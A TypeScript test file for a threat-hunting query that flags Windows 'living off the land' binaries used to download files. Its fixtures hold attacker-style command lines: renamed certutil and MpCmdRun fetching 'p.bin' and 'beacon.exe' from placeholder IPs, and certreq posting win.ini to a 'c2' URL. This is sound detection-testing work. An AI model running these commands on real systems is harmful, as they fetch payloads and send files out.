import { describe, expect, it } from 'vitest';
import { accountsIn, processCreated } from './support/device-rows.ts';
import { huntRows, type Row } from './support/run-on-rows.ts';

const as = (account: string, image: string, commandLine: string, originalName?: string): Row =>
  processCreated(20, image, commandLine, 'C:\\Windows\\System32\\cmd.exe', {
    AccountName: account,
    ...(originalName === undefined ? {} : { ProcessVersionInfoOriginalFileName: originalName }),
  });

const found = async (rows: Row[]) =>
  accountsIn(await huntRows('lolbin-download', { DeviceProcessEvents: rows })).sort();

describe('/hunt lolbin-download on LOLBAS download techniques', () => {
  it('finds certutil copied under another name (its version info still says CertUtil.exe)', async () => {
    const rows = [
      as(
        'renamed',
        'C:\\Users\\Public\\cu.exe',
        'cu.exe -urlcache -split -f http://203.0.113.90/p.bin p.exe',
        'CertUtil.exe',
      ),
    ];
    expect(await found(rows)).toEqual(['renamed']);
  });

  it("finds Defender's MpCmdRun -DownloadFile and certreq -Post used to fetch a file", async () => {
    const rows = [
      as(
        'mpcmdrun',
        'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe',
        'MpCmdRun.exe -DownloadFile -url https://203.0.113.91/beacon.exe -path C:\\Users\\Public\\beacon.exe',
      ),
      as(
        'certreq',
        'C:\\Windows\\System32\\certreq.exe',
        'CertReq -Post -config https://203.0.113.92/c2.txt c:\\windows\\win.ini out.txt',
      ),
    ];
    expect(await found(rows)).toEqual(['certreq', 'mpcmdrun']);
  });

  it("reports no signature update, nor a certreq enrolment with the company's own CA", async () => {
    const rows = [
      as('update', 'C:\\Program Files\\Windows Defender\\MpCmdRun.exe', 'MpCmdRun.exe -SignatureUpdate -MMPC'),
      as(
        'enrol',
        'C:\\Windows\\System32\\certreq.exe',
        'certreq -submit -config "https://ces.corp.contoso.example/Contoso%20Issuing%20CA_CES_Kerberos/service.svc/CES" req.csr',
      ),
    ];
    expect(await found(rows)).toEqual([]);
  });
});
